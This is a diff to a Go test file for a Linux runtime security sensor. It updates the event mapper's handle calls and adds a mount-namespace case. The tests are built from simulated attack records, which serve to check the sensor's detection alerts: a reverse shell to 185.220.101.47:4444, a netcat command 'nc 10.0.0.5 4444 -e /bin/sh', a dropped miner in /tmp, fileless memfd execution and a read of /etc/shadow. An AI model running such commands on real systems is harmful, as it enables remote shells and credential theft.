@@ -96,7 +96,7 @@ func execRec(pid, ppid uint32, cg uint64, filename, exe string, argv ...string) 
 func fork(m *mapper, parent, child uint32, cg uint64) *event.Event {
 	r := rec(kernel.KindFork, parent, cg, "x")
 	r.Fork.ChildTGID = child
-	return m.handle(&r)
+	return m.handle(&r, false)
 }
 
 // fields returns the event's fields as text, by name.
@@ -152,11 +152,11 @@ func alerts(t *testing.T, events ...*event.Event) []string {
 // (101), which runs a shell (102).
 func web(t testing.TB, m *mapper) {
 	r := execRec(100, 1, cgWeb, "/usr/sbin/nginx", "/usr/sbin/nginx", "nginx", "-g", "daemon off;")
-	m.handle(&r)
+	m.handle(&r, false)
 	fork(m, 100, 101, cgWeb)
 	fork(m, 101, 102, cgWeb)
 	r = execRec(102, 101, cgWeb, "/bin/sh", "/bin/dash", "sh", "-c", "id")
-	m.handle(&r)
+	m.handle(&r, false)
 }
 
 func TestMapExecReverseShell(t *testing.T) {
@@ -167,7 +167,7 @@ func TestMapExecReverseShell(t *testing.T) {
 	sock := kernel.FD{Type: kernel.FDSocket, Family: unix.AF_INET, SockType: unix.SOCK_STREAM,
 		Local: netip.MustParseAddrPort("10.40.3.17:51234"), Remote: netip.MustParseAddrPort("185.220.101.47:4444")}
 	r.Exec.Stdio = [3]kernel.FD{sock, sock, sock}
-	e := m.handle(&r)
+	e := m.handle(&r, false)
 	check(t, e, map[string]string{
 		"vendor": "linux", "vendor_product": "vigil sensor", "dataset": "Process", "event_name": "execve", "action": "exec",
 		"status": "success", "dest": "node-1", "src_user": "www-data", "time": "2026-11-24T10:00:00Z",
@@ -187,7 +187,7 @@ func TestMapExecReverseShell(t *testing.T) {
 	// The same shell on a Unix socket pair (sshd) is not a reverse shell.
 	r.Exec.Stdio[0] = kernel.FD{Type: kernel.FDSocket, Family: unix.AF_UNIX, SockType: unix.SOCK_STREAM}
 	r.Exec.Stdio[1] = r.Exec.Stdio[0]
-	e = m.handle(&r)
+	e = m.handle(&r, false)
 	check(t, e, map[string]string{"transport": "unix", "dest_ip": "", "process_stdin": "socket"})
 	if got := alerts(t, e); len(got) != 0 {
 		t.Errorf("alerts on a Unix socket: %q", got)
@@ -202,7 +202,7 @@ func TestMapRoundTrip(t *testing.T) {
 	r := rec(kernel.KindOpen, 102, cgWeb, "sh")
 	r.Ret = 3
 	r.File = kernel.File{Op: kernel.OpOpen, Path: "/bin/ls", Flags: unix.O_WRONLY | unix.O_TRUNC}
-	e := m.handle(&r)
+	e := m.handle(&r, false)
 	line := event.AppendJSON(nil, e, false)
 	got, err := parseSensorEvent(line)
 	if err != nil {
@@ -372,7 +372,7 @@ func TestMapRecords(t *testing.T) {
 			m := newTestMapper(t)
 			web(t, m)
 			r := c.rec()
-			e := m.handle(&r)
+			e := m.handle(&r, false)
 			want := map[string]string{"process_id": "102", "process": "sh -c id", "process_path": "/bin/sh",
 				"parent_process_id": "101", "parent_process_path": "/usr/sbin/nginx", "container_id": "3f5e9a1c7b2d",
 				"process_exe_drift": "", "process_stdin": ""}
@@ -394,7 +394,7 @@ func TestMapExecDriftAndFileless(t *testing.T) {
 	r := execRec(110, 102, cgWeb, "./kdevtmpfsi", "/tmp/.x/kdevtmpfsi", "./kdevtmpfsi", "-o", "pool:3333")
 	r.Exec.Cwd = "/tmp/.x"
 	r.Exec.MTime = t0.Add(-time.Minute) // written after the container started
-	e := m.handle(&r)
+	e := m.handle(&r, false)
 	check(t, e, map[string]string{"process_path": "/tmp/.x/kdevtmpfsi", "process_name": "kdevtmpfsi", "process_exe_drift": "true", "process_exe_fileless": "false"})
 	want := []string{"Executable Dropped in a Running Container Then Executed", "Program Executed From a Temporary or Shared-Memory Directory"}
 	if got := alerts(t, e); !slices.Equal(got, want) {
@@ -404,14 +404,14 @@ func TestMapExecDriftAndFileless(t *testing.T) {
 	// A chmod changes ctime: that is drift too.
 	r = execRec(110, 102, cgWeb, "/usr/bin/curl", "/usr/bin/curl", "curl")
 	r.Exec.CTime = t0.Add(-time.Second)
-	check(t, m.handle(&r), map[string]string{"process_exe_drift": "true"})
+	check(t, m.handle(&r, false), map[string]string{"process_exe_drift": "true"})
 
 	// A memfd: fileless, and no file to call drift.
 	fork(m, 102, 111, cgWeb)
 	r = execRec(111, 102, cgWeb, "/proc/self/fd/3", "/memfd: (deleted)", "[kworker/0:2]")
 	r.Exec.Memfd, r.Exec.Deleted, r.Exec.Tmpfs = true, true, true
 	r.Exec.MTime = t0
-	e = m.handle(&r)
+	e = m.handle(&r, false)
 	check(t, e, map[string]string{"process_path": "/proc/self/fd/3", "process_name": "3", "process_exe": "/memfd: (deleted)",
 		"process_exe_fileless": "true", "process_exe_drift": "", "process": "[kworker/0:2]"})
 	if got, want := alerts(t, e), []string{"Fileless Execution From a memfd or Deleted File"}; !slices.Equal(got, want) {
@@ -422,7 +422,7 @@ func TestMapExecDriftAndFileless(t *testing.T) {
 	r = execRec(200, 1, cgHost, "/home/alice/vigil", "/home/alice/vigil", "./vigil", "version")
 	r.UID, r.EUID, r.GID, r.AUID = 0, 0, 0, 1000
 	r.Exec.MTime = t0
-	e = m.handle(&r)
+	e = m.handle(&r, false)
 	check(t, e, map[string]string{"container_runtime": "host", "container_id": "", "process_exe_drift": "", "src_user": "alice",
 		"process_login_id": "1000", "process_user_id": "0"})
 	if got := alerts(t, e); len(got) != 0 {
@@ -439,19 +439,19 @@ func TestMapForkExitAndLineage(t *testing.T) {
 		"process_ancestors": "/usr/sbin/nginx /usr/sbin/nginx"})
 	r := rec(kernel.KindExit, 120, cgWeb, "sh")
 	r.Exit = kernel.Exit{Signal: 9}
-	e = m.handle(&r)
+	e = m.handle(&r, false)
 	check(t, e, map[string]string{"event_name": "exit", "action": "stop", "syscall_args": "signal=9", "process_id": "120", "process_path": "/bin/sh"})
 	// Its events stay attributed while it is within the grace period.
 	r = rec(kernel.KindExit, 102, cgWeb, "sh")
-	m.handle(&r)
+	m.handle(&r, false)
 	r = rec(kernel.KindOpen, 120, cgWeb, "sh")
 	r.File = kernel.File{Op: kernel.OpOpen, Path: "/etc/shadow"}
-	check(t, m.handle(&r), map[string]string{"process_path": "/bin/sh", "parent_process": "sh -c id"})
+	check(t, m.handle(&r, false), map[string]string{"process_path": "/bin/sh", "parent_process": "sh -c id"})
 	// After the grace period the exited process's program is forgotten.
 	later := rec(kernel.KindFork, 100, cgWeb, "nginx")
 	later.Time = t0.Add(time.Minute)
 	later.Fork.ChildTGID = 130
-	m.handle(&later)
+	m.handle(&later, false)
 	for _, pid := range []int32{120, 102} {
 		if tp, ok := m.tree.Get(pid); ok && m.progs[tp.Serial] != nil {
 			t.Errorf("pid %d: program kept after the grace period", pid)
@@ -466,7 +466,7 @@ func TestMapUnresolvedAndUnknown(t *testing.T) {
 	m := newTestMapper(t)
 	r := rec(kernel.KindOpen, 555, cgNone, "app")
 	r.File = kernel.File{Op: kernel.OpOpen, Path: "/data/x", Flags: unix.O_WRONLY}
-	e := m.handle(&r)
+	e := m.handle(&r, false)
 	if e.Container != nil {
 		t.Errorf("unresolved record has container fields: %s", event.AppendJSON(nil, e, false))
 	}
@@ -477,7 +477,7 @@ func TestMapUnresolvedAndUnknown(t *testing.T) {
 	}
 	// Unknown user ids are numbers.
 	r.UID = 4321
-	check(t, m.handle(&r), map[string]string{"src_user": "4321"})
+	check(t, m.handle(&r, false), map[string]string{"src_user": "4321"})
 }
 
 func TestMapSelfExec(t *testing.T) {
@@ -486,13 +486,13 @@ func TestMapSelfExec(t *testing.T) {
 	// busybox runs an applet by executing itself: the applet's name is
 	// placed beside the executable when no process can be looked at.
 	r := execRec(102, 101, cgWeb, "/proc/self/exe", "/bin/busybox", "nc", "10.0.0.5", "4444", "-e", "/bin/sh")
-	e := m.handle(&r)
+	e := m.handle(&r, false)
 	check(t, e, map[string]string{"process_path": "/bin/nc", "process_name": "nc", "process_exe": "/bin/busybox"})
 	if got, want := alerts(t, e), []string{"Netcat or Socat Executing a Program for a Connection"}; !slices.Equal(got, want) {
 		t.Errorf("alerts %q, want %q", got, want)
 	}
 	r = execRec(102, 101, cgWeb, "/proc/self/exe", "/usr/sbin/runc", "/usr/sbin/runc", "init")
-	check(t, m.handle(&r), map[string]string{"process_path": "/usr/sbin/runc", "process_name": "runc"})
+	check(t, m.handle(&r, false), map[string]string{"process_path": "/usr/sbin/runc", "process_name": "runc"})
 
 	// With a live process, the name is looked up in its root and must be
 	// the executable: this test's binary, by its own name.
@@ -504,14 +504,21 @@ func TestMapSelfExec(t *testing.T) {
 	if err := unix.Stat(self, &st); err != nil {
 		t.Fatal(err)
 	}
+	var ns unix.Stat_t
+	if err := unix.Stat("/proc/self/ns/mnt", &ns); err != nil {
+		t.Fatal(err)
+	}
 	m.procRoot = "/proc"
 	r = execRec(uint32(os.Getpid()), uint32(os.Getppid()), cgHost, "/proc/self/exe", self, filepath.Base(self), "-test.run=x")
 	r.Exec.Inode = st.Ino
-	r.MntNS = 1
-	check(t, m.handle(&r), map[string]string{"process_path": self})
+	r.MntNS = uint32(ns.Ino)
+	check(t, m.handle(&r, false), map[string]string{"process_path": self})
 	r.Exec.Inode = st.Ino + 1 // not that file: the path stays as executed
-	r.MntNS = 2
-	check(t, m.handle(&r), map[string]string{"process_path": "/proc/self/exe"})
+	check(t, m.handle(&r, false), map[string]string{"process_path": "/proc/self/exe"})
+	// A process in another mount namespace is not looked through: the
+	// name is placed beside the executable.
+	r.MntNS = uint32(ns.Ino) + 1
+	check(t, m.handle(&r, false), map[string]string{"process_path": self})
 	if !selfExe("/proc/123/exe") || selfExe("/proc/12a/exe") || selfExe("/proc/self/fd/3") {
 		t.Error("selfExe")
 	}
